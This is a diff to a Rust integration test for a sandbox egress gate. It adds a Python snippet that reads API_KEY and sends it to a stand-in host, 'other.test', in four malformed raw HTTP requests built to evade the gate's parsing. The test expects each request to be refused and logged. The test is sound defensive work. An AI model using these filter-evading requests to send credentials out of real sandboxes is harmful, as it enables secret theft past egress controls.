@@ -4,7 +4,9 @@
 //! (`secrets_swap`: acceptance 1, 2, 3, 4, 6, 7) against test hosts, with
 //! issue 45's attacks on it: plain HTTP to a bound host (also inside a
 //! `CONNECT` tunnel), reflection in a header name and in a gzip body, a
-//! pipelined HTTP/1.0 request without `Host`; and `plain_http = true`.
+//! pipelined HTTP/1.0 request without `Host`, a sentinel towards an
+//! unbound host in plain HTTP the gate's sniff cannot read as a head; and
+//! `plain_http = true`.
 //!
 //! Test safety: no packet leaves this machine. The "internet" is two test
 //! host namespaces on /30s of 198.18.0.0/15 (`net_names::NameHost`):
@@ -218,6 +220,28 @@ const INSIDE: &str = r#"
 S="$API_KEY"
 echo "shape: $(printf %s "$S" | grep -cE '^lzr-sk-[0-9A-Za-z]{40}$')"
 echo "other: $(curl -sS http://other.test/o -H "x-api-key: $S" -o /dev/null -w '%{http_code}' 2>&1)"
+echo "odd: $(python3 -c '
+import os, socket
+S = os.environ["API_KEY"].encode()
+out = []
+for r in [b"GET /o1 HTTP/1.1\nHost: other.test\nx-api-key: %s\n\n",
+          b"PROPFIND /o2 HTTP/1.1\r\nHost: other.test\r\nx-api-key: %s\r\n\r\n",
+          b"GET /o3 HTTP/1.1\r\nHost: other.test\r\nX: \xff\r\nx-api-key: %s\r\n\r\n",
+          b"GET  /o4  HTTP/1.1\r\nHost: other.test\r\nx-api-key: %s\r\n\r\n"]:
+    s = socket.create_connection(("other.test", 80), timeout=20)
+    s.sendall(r % S)
+    d = b""
+    try:
+        while True:
+            c = s.recv(4096)
+            if not c:
+                break
+            d += c
+    except OSError as e:
+        d += (" (%s)" % type(e).__name__).encode()
+    out.append(d.split(b"\r\n")[0].decode("latin-1"))
+print(" | ".join(out))
+' 2>&1)"
 echo "curl-https: $(curl -sS https://api.test/h -H "Authorization: Bearer $S" -H "x-api-key: $S" 2>&1)"
 echo "curl-http: $(curl -sS http://api.test/p -H "Authorization: Bearer $S" -w ' %{http_code}' 2>&1 | tr '\n' ' ')"
 echo "tunnel-plain: $(curl -sS -p -x http://169.254.255.2:3128 http://api.test/t -H "x-api-key: $S" -w ' %{http_code}' 2>&1 | tr '\n' ' ')"
@@ -541,6 +565,11 @@ fn secrets_swap_at_the_gate_and_the_value_never_enters_the_sandbox() {
     // Acceptance 2: the sentinel towards other.test is refused before the
     // gate connects, logged, and the session told in one escaped line.
     assert_eq!(line(out, "other"), "403", "{r:?}");
+    // Attack: the same sentinel in plain HTTP the gate's sniff cannot read
+    // as a head but a lenient server would (bare LF line ends, an unknown
+    // method, a header value that is not UTF-8, two spaces in the request
+    // line): refused before the gate connects, never relayed unseen.
+    assert_eq!(line(out, "odd"), ["HTTP/1.1 403 Forbidden"; 4].join(" | "), "{r:?}");
     assert_eq!(other.marked(), "", "other.test saw something: {r:?}");
     let notice = "lazaret: egress to other.test:80 refused (leak attempt: the sentinel of API_KEY of profile sec)";
     assert_eq!(r.stderr.matches(notice).count(), 1, "{r:?}");
